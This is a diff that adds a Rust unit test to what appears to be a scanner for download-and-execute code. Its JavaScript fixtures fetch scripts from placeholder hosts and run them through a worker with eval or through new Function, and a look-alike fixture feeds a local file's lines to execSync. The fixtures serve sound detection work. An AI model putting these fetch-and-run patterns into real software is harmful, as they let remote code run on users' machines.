@@ -744,3 +744,26 @@ fn prose_naming_a_piped_download_fetches_nothing() {
         Rule::DownloadExec,
     );
 }
+
+#[test]
+fn javascript_promises_lists_and_functions_by_name_carry_values() {
+    // A promise is what its executor resolves; a list holds what is
+    // pushed into it.
+    caught(
+        "scripts/a.js",
+        "const https = require('https');\nconst { Worker } = require('worker_threads');\nfunction download(u) {\n  return new Promise((resolve) => {\n    https.get(u, (res) => {\n      const chunks = [];\n      res.on('data', (c) => chunks.push(c));\n      res.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));\n    });\n  });\n}\nfunction classify(source) {\n  return new Promise((done) => { new Worker(source, { eval: true }).once('message', done); });\n}\nasync function main() { const h = download('https://rules.example.test/h.js'); await classify(await h); }\nmain();\n",
+        Rule::DownloadExec,
+    );
+    // A function of the file given by name to a method of network data.
+    caught(
+        "scripts/b.js",
+        "function compile(def) { return new Function('body', def.source); }\nfunction load(u) { return fetch(u).then((r) => r.json()); }\nload('https://registry.example.test/t.json').then((doc) => doc.items.map(compile));\n",
+        Rule::DownloadExec,
+    );
+    // Look-alikes: a promise of a local file's text, a list of local
+    // results.
+    quiet(
+        "scripts/c.js",
+        "const fs = require('fs');\nconst cp = require('child_process');\nconst read = (p) => new Promise((ok) => fs.readFile(p, 'utf8', (e, t) => ok(t)));\nread('build.txt').then((t) => { const steps = []; steps.push(t.trim()); steps.forEach((s) => cp.execSync(s)); });\n",
+    );
+}
